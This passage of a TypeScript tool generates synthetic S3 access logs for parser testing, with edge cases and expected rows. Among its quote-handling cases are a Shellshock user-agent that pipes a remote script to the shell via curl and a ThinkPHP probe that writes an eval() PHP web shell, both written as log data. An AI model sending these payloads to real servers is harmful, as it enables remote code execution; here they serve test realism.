  applyStatus(rec, effective, obj.size, body);
  timing(r, rec, rec.bytessent ?? 0);
  return rec;
}

function headObject(w: World, r: Random, b: BucketInfo, c: Client, time: number): Rec {
  const status = HEAD_STATUS.pick(r);
  const obj = status[1] === 'NoSuchKey' ? { key: `${pickObject(r, b).key}.bak`, size: 0 } : pickObject(r, b);
  const rec = baseRecord(w, r, b, c, time, 'REST.HEAD.OBJECT');
  setKey(rec, obj.key, 'rest');
  request(w, r, rec, b, c, 'HEAD', encodePath(obj.key), c.auth === 'QueryString' ? [presignedQuery(r, w, c, time)] : [], 'HeadObject');
  applyStatus(rec, status, obj.size, null);
  timing(r, rec, 0);
  return rec;
}

function putObject(w: World, r: Random, b: BucketInfo, c: Client, time: number, obj: StoredObject): Rec {
  const rec = baseRecord(w, r, b, c, time, 'REST.PUT.OBJECT');
  setKey(rec, obj.key, 'rest');
  request(w, r, rec, b, c, 'PUT', encodePath(obj.key), c.auth === 'QueryString' ? [presignedQuery(r, w, c, time)] : [], 'PutObject');
  applyStatus(rec, WRITE_STATUS.pick(r), obj.size, null);
  timing(r, rec, rec.errorcode === null ? obj.size : 0);
  return rec;
}

function listBucket(w: World, r: Random, b: BucketInfo, c: Client, time: number): Rec {
  const versions = b.versioned && r.chance(0.1);
  const rec = baseRecord(w, r, b, c, time, versions ? 'REST.GET.BUCKETVERSIONS' : 'REST.GET.BUCKET');
  const prefix = encodeURIComponent(pickObject(r, b).key.split('/')[0] + '/');
  const query = versions
    ? [`versions`, `prefix=${prefix}`, `encoding-type=url`]
    : r.chance(0.7)
      ? [`list-type=2`, `prefix=${prefix}`, `delimiter=%2F`, `encoding-type=url`]
      : [`prefix=${prefix}`, `max-keys=1000`];
  request(w, r, rec, b, c, 'GET', null, query, versions ? 'ListObjectVersions' : 'ListObjectsV2');
  const status = c.requester === null ? ([403, 'AccessDenied'] as const) : LIST_STATUS.pick(r);
  applyStatus(rec, status, 0, r.int(300, 60_000));
  rec.objectsize = null;
  timing(r, rec, rec.bytessent ?? 0);
  return rec;
}

const BUCKET_CONFIG: ReadonlyArray<readonly [operation: string, subresource: string | null, missing: string | null]> = [
  ['REST.GET.VERSIONING', 'versioning', null],
  ['REST.GET.BUCKETPOLICY', 'policy', 'NoSuchBucketPolicy'],
  ['REST.GET.ACL', 'acl', null],
  ['REST.GET.LOCATION', 'location', null],
  ['REST.GET.LOGGING_STATUS', 'logging', null],
  ['REST.GET.TAGGING', 'tagging', 'NoSuchTagSet'],
  ['REST.GET.ENCRYPTION', 'encryption', null],
  ['REST.HEAD.BUCKET', null, null],
];

function bucketConfig(w: World, r: Random, b: BucketInfo, c: Client, time: number): Rec {
  const [operation, subresource, missing] = r.pick(BUCKET_CONFIG);
  const rec = baseRecord(w, r, b, c, time, operation);
  request(w, r, rec, b, c, subresource === null ? 'HEAD' : 'GET', null, subresource === null ? [] : [subresource], operation);
  const status: Status = missing !== null && r.chance(0.6) ? [404, missing] : [200, null];
  applyStatus(rec, status, 0, subresource === null ? null : r.int(100, 1200));
  rec.objectsize = null;
  timing(r, rec, 0);
  return rec;
}

function website(w: World, r: Random, b: BucketInfo, c: Client, time: number): Rec {
  const status = r.chance(0.08) ? ([404, 'NoSuchKey'] as const) : r.chance(0.15) ? ([304, null] as const) : ([200, null] as const);
  const obj = status[1] === null ? pickObject(r, b) : { key: r.pick(MISSING_KEYS), size: 0 };
  const rec = baseRecord(w, r, b, c, time, 'WEBSITE.GET.OBJECT');
  setKey(rec, obj.key, 'rest');
  rec.method = 'GET';
  rec.path = '/' + encodePath(obj.key);
  rec.endpoint = `${b.name}.s3-website-${w.region}.amazonaws.com`;
  rec.ciphersuite = null; // website endpoints speak plain HTTP only
  rec.tlsversion = null;
  applyStatus(rec, status, obj.size, status[0] === 304 ? null : obj.size);
  timing(r, rec, rec.bytessent ?? 0);
  return rec;
}

function preflight(w: World, r: Random, b: BucketInfo, c: Client, time: number): Rec {
  const obj = pickObject(r, b);
  const rec = baseRecord(w, r, b, c, time, 'REST.OPTIONS.PREFLIGHT');
  setKey(rec, obj.key, 'rest');
  request(w, r, rec, b, c, 'OPTIONS', encodePath(obj.key), [], 'Preflight');
  rec.referrer = 'https://app.example.org/';
  applyStatus(rec, [200, null], 0, null);
  rec.objectsize = null;
  timing(r, rec, 0);
  return rec;
}

function multipartUpload(w: World, r: Random, b: BucketInfo, c: Client, time: number): Rec[] {
  const obj = pickObject(r, b);
  const encoded = encodePath(obj.key);
  const uploadId = r.fromAlphabet(UPLOAD_ID_ALPHABET, 96);
  const partSize = r.pick([8_388_608, 16_777_216]);
  const parts = r.int(1, 6);
  const total = partSize * (parts - 1) + r.int(1, partSize);
  const records: Rec[] = [];
  const step = (operation: string, method: string, query: string[], size: number | null, body: number | null): void => {
    const rec = baseRecord(w, r, b, c, time + records.length * r.int(0, 2) * 1000, operation);
    setKey(rec, obj.key, 'rest');
    request(w, r, rec, b, c, method, encoded, query, operation);
    applyStatus(rec, [200, null], 0, body);
    rec.objectsize = size;
    timing(r, rec, size ?? 0);
    records.push(rec);
  };
  step('REST.POST.UPLOADS', 'POST', ['uploads'], null, 300 + encoded.length);
  for (let i = 1; i <= parts; i++) step('REST.PUT.PART', 'PUT', [`partNumber=${i}`, `uploadId=${uploadId}`], i < parts ? partSize : total - partSize * (parts - 1), null);
  step('REST.POST.UPLOAD', 'POST', [`uploadId=${uploadId}`], total, 330 + encoded.length);
  return records;
}

/** A copy logs two records with one request ID; the GET side has no request line (FORMAT.md §2). */
function copyObject(w: World, r: Random, b: BucketInfo, c: Client, time: number): Rec[] {
  const source = pickObject(r, b);
  const target = r.chance(0.5) ? `archive/${source.key}` : `${source.key}.copy`;
  const put = baseRecord(w, r, b, c, time, 'REST.COPY.OBJECT');
  setKey(put, target, 'rest');
  request(w, r, put, b, c, 'PUT', encodePath(target), [], 'CopyObject');
  applyStatus(put, [200, null], source.size, r.int(220, 260));
  timing(r, put, 0);
  const get = baseRecord(w, r, b, c, time, 'REST.COPY.OBJECT_GET');
  setKey(get, source.key, 'rest');
  Object.assign(get, { requestid: put.requestid, endpoint: put.endpoint, uriNull: '-', quotedNull: '-', referrer: null, useragent: null });
  get.httpstatus = r.chance(0.6) ? 200 : null;
  get.objectsize = source.size;
  get.versionid = source.version !== null && r.chance(0.5) ? source.version : null;
  return r.chance(0.5) ? [get, put] : [put, get];
}

function deleteObject(w: World, r: Random, b: BucketInfo, c: Client, time: number): Rec {
  const obj = pickObject(r, b);
  const rec = baseRecord(w, r, b, c, time, 'REST.DELETE.OBJECT');
  setKey(rec, obj.key, 'rest');
  request(w, r, rec, b, c, 'DELETE', encodePath(obj.key), [], 'DeleteObject');
  applyStatus(rec, [204, null], 0, null);
  rec.objectsize = null;
  timing(r, rec, 0);
  return rec;
}

/** DeleteObjects: one POST record, then one BATCH.DELETE.OBJECT per key with a bare `-` request line. */
function multiDelete(w: World, r: Random, b: BucketInfo, c: Client, time: number): Rec[] {
  const post = baseRecord(w, r, b, c, time, 'REST.POST.MULTI_OBJECT_DELETE');
  request(w, r, post, b, c, 'POST', null, ['delete'], 'DeleteObjects');
  const count = r.int(1, 5);
  applyStatus(post, [200, null], 0, 90 + count * 120);
  post.objectsize = null;
  timing(r, post, 0);
  const records = [post];
  for (let i = 0; i < count; i++) {
    const obj = pickObject(r, b);
    const rec = baseRecord(w, r, b, c, time, 'BATCH.DELETE.OBJECT');
    setKey(rec, obj.key, 'form');
    Object.assign(rec, { requestid: post.requestid, endpoint: post.endpoint, uriNull: '-', quotedNull: '-', referrer: null, useragent: null, httpstatus: 204 });
    rec.objectsize = r.chance(0.7) ? obj.size : null;
    records.push(rec);
  }
  return records;
}

const LIFECYCLE_OPERATIONS = new WeightedPicker<string>([['S3.EXPIRE.OBJECT', 6], ['S3.TRANSITION_SIA.OBJECT', 2], ['S3.CREATE.DELETEMARKER', 1], ['S3.TRANSITION.OBJECT', 1]]);

/** Lifecycle actions: requester AmazonS3, no remote IP, `"-"` request line, 64-char Host Id (EDGE #2). */
function lifecycle(w: World, r: Random, b: BucketInfo, time: number): Rec[] {
  const records: Rec[] = [];
  const count = r.int(1, 5);
  for (let i = 0; i < count; i++) {
    const obj = pickObject(r, b);
    const rec: Rec = {
      ...baseRecord(w, r, b, w.clients[0] as Client, time, LIFECYCLE_OPERATIONS.pick(r)),
      remoteip: null, requester: 'AmazonS3', referrer: null, useragent: null, hostid: r.base64(64),
      sigv: null, ciphersuite: null, authtype: null, endpoint: null, tlsversion: null, aclrequired: false, sourceregion: null,
    };
    setKey(rec, obj.key, 'form');
    rec.objectsize = obj.size;
    rec.versionid = obj.version;
    records.push(rec);
  }
  return records;
}

/** Another AWS service delivering its logs into this bucket: no remote IP, service requester. */
function serviceDelivery(w: World, r: Random, b: BucketInfo, time: number): Rec {
  const client: Client = { ...(w.authed[0] as Client), kind: 'sdk', requester: 'svc:delivery.logs.amazonaws.com', sigv: 'SigV4', auth: 'AuthHeader', tls: ['ECDHE-RSA-AES128-GCM-SHA256', 'TLSv1.2'], host: 'virtual', sourceRegion: w.region, addsXId: false };
  const rec = baseRecord(w, r, b, client, time, 'REST.PUT.OBJECT');
  const d = compactTime(time);
  const key = `AWSLogs/${w.accountId}/elasticloadbalancing/${w.region}/${d.slice(0, 4)}/${d.slice(4, 6)}/${d.slice(6, 8)}/${w.accountId}_elasticloadbalancing_${w.region}_app.web-alb.${r.hex(16)}_${d.slice(0, 13)}Z_${privateIpv4(r)}_${r.base64(8).replace(/[+/]/g, 'x')}.log.gz`;
  setKey(rec, key, 'rest');
  request(w, r, rec, b, client, 'PUT', encodePath(key), [], 'PutObject');
  Object.assign(rec, { remoteip: null, useragent: null, aclrequired: false, accesspointarn: null });
  applyStatus(rec, [200, null], r.int(2_000, 500_000), null);
  timing(r, rec, rec.objectsize ?? 0);
  return rec;
}

type EventKind = 'get' | 'head' | 'put' | 'list' | 'config' | 'website' | 'multipart' | 'copy' | 'delete' | 'multiDelete' | 'lifecycle' | 'preflight' | 'delivery';

const EVENTS = new WeightedPicker<EventKind>([
  ['get', 60], ['head', 12], ['put', 7], ['list', 5], ['config', 3], ['website', 2], ['multipart', 2], ['copy', 1.5],
  ['delete', 1.5], ['multiDelete', 1], ['lifecycle', 1], ['preflight', 1], ['delivery', 0.5],
]);

type QuoteVariant = 'uaTrailing' | 'uaLeading' | 'refererInner' | 'shellshock' | 'uriPayload' | 'uaInner';
const QUOTE_VARIANTS: readonly QuoteVariant[] = ['uaTrailing', 'uaLeading', 'refererInner', 'shellshock', 'uriPayload', 'uaInner'];
const PHP_PAYLOAD = 's=index/\\think\\template\\driver\\file/write&cacheFile=robots.php&content=<?php$p=%20"xinba";eval($_REQUEST[$p]);?>';

/** A request with raw `"` inside quoted fields (EDGE #7-#10); never `" ` inside a value. */
function quotedEvent(w: World, r: Random, b: BucketInfo, time: number): Rec {
  const browser = pickClient(r, w.browsers);
  const variant = r.pick(QUOTE_VARIANTS);
  const rec = getObject(w, r, b, browser, time);
  const ua = rec.useragent ?? browser.ua;
  switch (variant) {
    case 'uaTrailing':
      rec.useragent = ua + '"'; // written as `…Safari/604.1""`
      break;
    case 'uaLeading':
      rec.useragent = '"' + ua; // written as `""Mozilla/5.0 …"`
      break;
    case 'uaInner':
      rec.useragent = `MyUploader/2.1 (build="${r.hex(7)}"; os=linux)`;
      break;
    case 'refererInner':
      rec.referrer = `https://www.google.com/search?q="${r.pick(WORDS)} ${r.pick(WORDS)}"`;
      break;
    case 'shellshock': {
      const payload = `() { :;}; /bin/bash -c "curl -s http://${publicIpv4(r)}/x.sh|sh"`;
      rec.referrer = payload;
      rec.useragent = payload;
      break;
    }
    case 'uriPayload': {
      // PHP probe against the bucket root: quotes, backslashes and a second `?` in the request line.
      const probe = baseRecord(w, r, b, { ...browser, requester: null, sigv: null, auth: null }, time, 'REST.GET.OBJECT');
      setKey(probe, '/', 'rest');
      request(w, r, probe, b, { ...browser, host: 'virtual', addsXId: false }, 'GET', '/', [PHP_PAYLOAD], 'GetObject');
      probe.referrer = `https://${b.name}.s3.amazonaws.com//?${PHP_PAYLOAD}`;
      applyStatus(probe, [404, 'NoSuchKey'], 0, null);
      timing(r, probe, 0);
      return probe;
    }
  }
  return rec;
}

function makeEvent(w: World, r: Random, bucketIndex: number, time: number, quotes: boolean): Rec[] {
  const b = w.buckets[bucketIndex] as BucketInfo;
  if (quotes) return [quotedEvent(w, r, b, time)];
  switch (EVENTS.pick(r)) {
    case 'get':
      return [getObject(w, r, b, pickClient(r, w.clients), time)];
    case 'head':
      return [headObject(w, r, b, pickClient(r, w.clients), time)];
    case 'put': {
      const c = pickClient(r, w.clients);
      const writer = c.requester === null ? pickClient(r, w.authed) : c;
      return [putObject(w, r, b, writer, time, r.chance(0.6) ? makeStoredObject(r, time, false) : pickObject(r, b))];
    }
    case 'list':
      return [listBucket(w, r, b, pickClient(r, w.clients), time)];
    case 'config':
      return [bucketConfig(w, r, b, pickClient(r, w.authed), time)];
    case 'website':
      return [website(w, r, b, pickClient(r, w.browsers), time)];
    case 'multipart':
      return multipartUpload(w, r, b, pickClient(r, w.authed), time);
    case 'copy':
      return copyObject(w, r, b, pickClient(r, w.authed), time);
    case 'delete':
      return [deleteObject(w, r, b, pickClient(r, w.authed), time)];
    case 'multiDelete':
      return multiDelete(w, r, b, pickClient(r, w.authed), time);
    case 'lifecycle':
      return lifecycle(w, r, b, time);
    case 'preflight':
      return [preflight(w, r, b, pickClient(r, w.browsers), time)];
    case 'delivery':
      return [serviceDelivery(w, r, b, time)];
  }
}

// ---- reject lines (EDGE #20, #28) ---------------------------------------------------------------

const JUNK_LINES = ['<<<<<<< Updated upstream', '=======', '>>>>>>> Stashed changes', '{"level":"info","msg":"delivery started"}', '#Version: 1.0', 'null'];

/** Start offset of each of the first 10 fields of a 27-field line. */
function fieldStarts(rec: Rec): number[] {
  const starts = [0];
  for (const text of recordFields(rec).slice(0, 9)) starts.push((starts[starts.length - 1] as number) + text.length + 1);
  return starts;
}

function makeRejectLine(w: World, r: Random, bucketIndex: number, time: number): { line: string; kind: RejectLine['kind'] } {
  const u = r.float();
  if (u < 0.4) return { line: r.pick(JUNK_LINES), kind: 'junk' };
  const b = w.buckets[bucketIndex] as BucketInfo;
  const victim = getObject(w, r, b, pickClient(r, w.clients), time);
  const text = formatRecord(victim, KNOWN_FIELD_COUNT, []).line;
  const starts = fieldStarts(victim);
  if (u < 0.7) {
    // Cut inside fields 4-9: at most 9 fields survive, far below the 17 a record needs.
    const cut = r.int(starts[3] as number, (starts[9] as number) - 2);
    return { line: text.slice(0, cut).trimEnd(), kind: 'truncated' };
  }
  // Cut inside the requester (or request id) and run the next record on, as NCBI saw in production.
  const start = starts[4] as number;
  const cut = r.int(start + 1, (starts[6] as number) - 3);
  const next = formatRecord(getObject(w, r, b, pickClient(r, w.clients), time), KNOWN_FIELD_COUNT, []).line;
  return { line: text.slice(0, cut) + next, kind: 'glued' };
}

// ---- writing one record -------------------------------------------------------------------------

const MONTHS = ['Jan', 'Feb', 'Mar', 'Apr', 'May', 'Jun', 'Jul', 'Aug', 'Sep', 'Oct', 'Nov', 'Dec'];
const dayPrefixCache = new Map<number, string>();

function pad2(n: number): string {
  return n < 10 ? '0' + n : String(n);
}

/** `[06/Feb/2019:00:00:38 +0000]`; the day part is cached because a run spans ~10 days. */
export function formatLogTime(ms: number): string {
  const day = Math.floor(ms / DAY_MS);
  let prefix = dayPrefixCache.get(day);
  if (prefix === undefined) {
    const d = new Date(day * DAY_MS);
    prefix = `[${pad2(d.getUTCDate())}/${MONTHS[d.getUTCMonth()]}/${d.getUTCFullYear()}:`;
    dayPrefixCache.set(day, prefix);
  }
  const s = Math.floor((ms - day * DAY_MS) / 1000);
  return `${prefix}${pad2(Math.floor(s / 3600))}:${pad2(Math.floor(s / 60) % 60)}:${pad2(s % 60)} +0000]`;
}

function token(value: string | null): string {
  if (value === null) return '-';
  // A space or a bare `-` would change what the parser reads back; fail loudly in the generator.
  if (value === '' || value === '-' || value.includes(' ')) throw new Error(`genLogs: bad token value ${JSON.stringify(value)}`);
  return value;
}

function quoted(value: string | null, nullForm: string): string {
  if (value === null) return nullForm;
  if (value === '' || value === '-' || value.includes('" ') || value.includes('\n')) {
    throw new Error(`genLogs: ambiguous quoted value ${JSON.stringify(value)}`);
  }
  return '"' + value + '"';
}

function integer(value: number | null): string {
  return value === null ? '-' : String(value);
}

function requestUri(rec: Rec): string | null {
  if (rec.method === null) return null;
  return `${rec.method} ${rec.path}${rec.query === null ? '' : '?' + rec.query} ${rec.protocol}`;
}

/** The 27 field texts of a record, in log order. */
function recordFields(rec: Rec): string[] {
  return [
    token(rec.bucketowner),
    token(rec.bucket),
    formatLogTime(rec.time),
    token(rec.remoteip),
    token(rec.requester),
    token(rec.requestid),
    token(rec.operation),
    token(rec.key),
    quoted(requestUri(rec), rec.uriNull),
    integer(rec.httpstatus),
    token(rec.errorcode),
    integer(rec.bytessent === 0 ? null : rec.bytessent),
    integer(rec.objectsize),
    integer(rec.totaltime),
    integer(rec.turnaroundtime),
    quoted(rec.referrer, rec.quotedNull),
    quoted(rec.useragent, rec.quotedNull),
    token(rec.versionid),
    token(rec.hostid),
    token(rec.sigv),
    token(rec.ciphersuite),
    token(rec.authtype),
    token(rec.endpoint),
    token(rec.tlsversion),
    token(rec.accesspointarn),
    rec.aclrequired ? 'Yes' : '-',
    token(rec.sourceregion),
  ];
}

/** Writes one record with `fieldCount` fields (18…27) plus `extras`, and returns its truth. */
export function formatRecord(rec: Rec, fieldCount: number, extras: readonly string[]): { line: string; row: ExpectedRow } {
  const uri = requestUri(rec);
  const fields = recordFields(rec);
  fields.length = fieldCount;
  for (const extra of extras) fields.push(token(extra));
  const has = (position: number): boolean => position <= fieldCount;
  const row: ExpectedRow = {
    bucketowner: rec.bucketowner,
    bucket_name: rec.bucket,
    requestdatetime: rec.time,
    remoteip: rec.remoteip,
    requester: rec.requester,
    requestid: rec.requestid,
    operation: rec.operation,
    key: rec.key,
    request_uri: uri,
    httpstatus: rec.httpstatus,
    errorcode: rec.errorcode,
    bytessent: rec.bytessent === 0 ? null : rec.bytessent,
    objectsize: rec.objectsize,
    totaltime: rec.totaltime,
    turnaroundtime: rec.turnaroundtime,
    referrer: rec.referrer,
    useragent: rec.useragent,
    versionid: rec.versionid,
    hostid: has(19) ? rec.hostid : null,
    sigv: has(20) ? rec.sigv : null,
    ciphersuite: has(21) ? rec.ciphersuite : null,
    authtype: has(22) ? rec.authtype : null,
    endpoint: has(23) ? rec.endpoint : null,
    tlsversion: has(24) ? rec.tlsversion : null,
    accesspointarn: has(25) ? rec.accesspointarn : null,
    aclrequired: has(26) ? rec.aclrequired : null,
    sourceregion: has(27) ? rec.sourceregion : null,
    request_method: uri === null ? null : rec.method,
    request_path: uri === null ? null : rec.path,
    request_query: uri === null ? null : rec.query,
    request_protocol: uri === null ? null : rec.protocol,
    key_decoded: rec.key === null ? null : rec.keyDecoded,
    field_count: fieldCount + extras.length,
    extra_fields: extras.length === 0 ? null : extras.join(' '),
  };
  return { line: fields.join(' '), row };
}

// ---- objects ------------------------------------------------------------------------------------

const OLD_WIDTHS = new WeightedPicker<number>([[18, 2], [24, 3], [25, 3], [26, 4]]);
const EXTRA_FIELDS = ['ExtraUnknownField', 'x-amz-future=1', 'TLS_AES_256_GCM_SHA384', 'Yes', '0', 'arn:aws:kms:us-east-1:123456789012:key/example', 'pq-hybrid'];

function dateParts(ms: number): { y: string; m: string; d: string } {
  const iso = new Date(ms).toISOString();
  return { y: iso.slice(0, 4), m: iso.slice(5, 7), d: iso.slice(8, 10) };
}

function objectKey(s: Settings, random: Random, bucket: string, secondOfDay: number): string {
  const { y, m, d } = dateParts(s.dayStart);
  const unique = random.hex(16, true);
  if (s.layout === 'date-based') {
    // EventTime partitioning: hh-mm-ss are always 00 (FORMAT.md §4).
    return `${s.prefix}${s.accountId}/${s.region}/${bucket}/${y}/${m}/${d}/${y}-${m}-${d}-00-00-00-${unique}`;
  }
  const hh = pad2(Math.floor(secondOfDay / 3600));
  const mm = pad2(Math.floor(secondOfDay / 60) % 60);
  return `${s.prefix}${y}-${m}-${d}-${hh}-${mm}-${pad2(secondOfDay % 60)}-${unique}`;
}

/** A late record: mostly the last hours of the previous day, with a tail up to ~9 days back. */
function lateTime(random: Random, dayStart: number): number {
  const u = random.float();
  const backSeconds = u < 0.8 ? random.int(1, 3 * 3600) : u < 0.95 ? random.int(3 * 3600, 2 * 86400) : random.int(2 * 86400, 9 * 86400);
  return dayStart - backSeconds * 1000;
}

function generateObject(s: Settings, world: World, random: Random, bucketIndex: number, sizeTarget: number): GeneratedObject {
  const bucket = s.buckets[bucketIndex] as string;
  // Simple layout: the key carries the delivery time, records come from the hour before it.
  // Date-based (EventTime): the key says 00-00-00, records come from any one hour of the day.
  const delivery = random.int(600, 86_399);
  const windowStart = s.layout === 'simple' ? Math.max(0, delivery - 3600) : random.int(0, 86_400 - 3600);
  const windowEnd = s.layout === 'simple' ? delivery - 60 : windowStart + 3600;
  const key = objectKey(s, random, bucket, delivery);
  const lines: string[] = [];
  const rows: ExpectedRow[] = [];
  const rejects: RejectLine[] = [];
  let bytes = 0;
  while (bytes < sizeTarget) {
    if (s.rejectFraction > 0 && random.chance(s.rejectFraction)) {
      const reject = makeRejectLine(world, random, bucketIndex, s.dayStart + windowStart * 1000);
      lines.push(reject.line);
      bytes += reject.line.length + 1;
      rejects.push({ line: lines.length, kind: reject.kind });
      continue;
    }
    const late = random.chance(s.lateFraction);
    const progress = windowStart + (bytes / sizeTarget) * (windowEnd - windowStart);
    const second = Math.min(windowEnd, Math.max(windowStart, Math.round(progress + random.int(-30, 30))));
    const eventTime = late ? lateTime(random, s.dayStart) : s.dayStart + second * 1000;
    const quotes = random.chance(s.quoteFraction);
    for (const rec of makeEvent(world, random, bucketIndex, eventTime, quotes)) {
      // Multi-record events step forward a few seconds; keep each record on its side of midnight.
      rec.time = late ? Math.min(rec.time, s.dayStart - 1000) : Math.min(rec.time, s.dayStart + DAY_MS - 1000);
      let width = KNOWN_FIELD_COUNT;
      let extras: string[] = [];
      if (random.chance(s.oldFormatFraction)) width = OLD_WIDTHS.pick(random);
      else if (random.chance(s.extraFieldsFraction)) {
        extras = [random.pick(EXTRA_FIELDS)];
        if (random.chance(0.3)) extras.push(random.pick(EXTRA_FIELDS));
      }
      const { line, row } = formatRecord(rec, width, extras);
      lines.push(line);
      rows.push(row);
      // Every byte is ASCII (keys are percent-encoded), so string length is byte length.
      bytes += line.length + 1;
    }
  }
  return { key, bucket, body: Buffer.from(lines.join('\n') + '\n', 'utf8'), rows, lines: lines.length, rejects };
}

/** Generates the log objects S3 would deliver for one key date, deterministically from `seed`. */
export function* generateKeyDate(options: GenerateOptions): Generator<GeneratedObject> {
  const s = resolveOptions(options);
  const random = new Random(s.seed);
  const world = createWorld(random, { accountId: s.accountId, region: s.region, buckets: s.buckets, dayStart: s.dayStart });
  // The first bucket is the busiest, as in most accounts.
  const bucketPicker = new WeightedPicker(s.buckets.map((_, i) => [i, 1 / (i + 1)] as const));
  // Median ~130 KiB with the default bounds: most objects are a few hundred KiB, some a few MiB.
  const median = Math.sqrt(s.minObjectBytes * s.maxObjectBytes) / 1.2;
  let total = 0;
  for (let n = 0; n < s.objects && total < s.targetBytes; n++) {
    const drawn = Math.round(random.logNormal(median, 1.3));
    const size = Math.min(Math.max(drawn, s.minObjectBytes), s.maxObjectBytes, s.targetBytes - total);
    const object = generateObject(s, world, random, bucketPicker.pick(random), size);
    total += object.body.length;
    yield object;
  }
}

export interface WriteSummary {
  objects: number;
  bytes: number;
  lines: number;
  rows: number;
}

/** Writes every generated object to `dir/<object key>` (directories created as needed). */
export async function writeKeyDateToDirectory(dir: string, options: GenerateOptions): Promise<WriteSummary> {
  const summary: WriteSummary = { objects: 0, bytes: 0, lines: 0, rows: 0 };
  for (const object of generateKeyDate(options)) {
    const path = join(dir, ...object.key.split('/'));
    await mkdir(dirname(path), { recursive: true });
    await writeFile(path, object.body);
    summary.objects += 1;
    summary.bytes += object.body.length;
    summary.lines += object.lines;
    summary.rows += object.rows.length;
  }
  return summary;
}

/** Column names in schema order; rows are built with their keys in this order. */
export const EXPECTED_ROW_COLUMNS: readonly ColumnName[] = ACCESS_LOG_COLUMNS.map((c) => c.name);

// ---- CLI ----------------------------------------------------------------------------------------

async function main(argv: string[]): Promise<void> {
  const { values } = parseArgs({
    args: argv,
    options: {
      out: { type: 'string' },
      date: { type: 'string' },
      mb: { type: 'string', default: '512' },
      seed: { type: 'string', default: '1' },
      layout: { type: 'string', default: 'simple' },
      prefix: { type: 'string', default: '' },
      'reject-fraction': { type: 'string', default: '0' },
    },
    strict: true,
  });
  if (values.out === undefined || values.date === undefined) {
    throw new Error('usage: genLogs --out <dir> --date YYYY-MM-DD [--mb 512] [--seed 1] [--layout simple|date-based] [--prefix logs/] [--reject-fraction 0]');
  }
  const mb = Number(values.mb);
  const seed = Number(values.seed);
  if (!(mb > 0)) throw new Error(`--mb must be a positive number, got ${values.mb}`);
  if (!Number.isInteger(seed)) throw new Error(`--seed must be an integer, got ${values.seed}`);
  const started = performance.now();
  const options: GenerateOptions = {
    seed,
    keyDate: values.date,
    layout: values.layout as Layout,
    prefix: values.prefix,
    targetBytes: Math.round(mb * 1024 * 1024),
    rejectFraction: Number(values['reject-fraction']),
  };
  const summary = await writeKeyDateToDirectory(values.out, options);
  const seconds = (performance.now() - started) / 1000;
  console.log(JSON.stringify({ out: values.out, date: values.date, layout: options.layout, seed, ...summary, seconds: Math.round(seconds * 100) / 100 }));
}

if (process.argv[1] !== undefined && import.meta.url === pathToFileURL(process.argv[1]).href) {
  main(process.argv.slice(2)).catch((error: unknown) => {
    console.error(error instanceof Error ? error.message : error);
    process.exitCode = 2;
  });
}
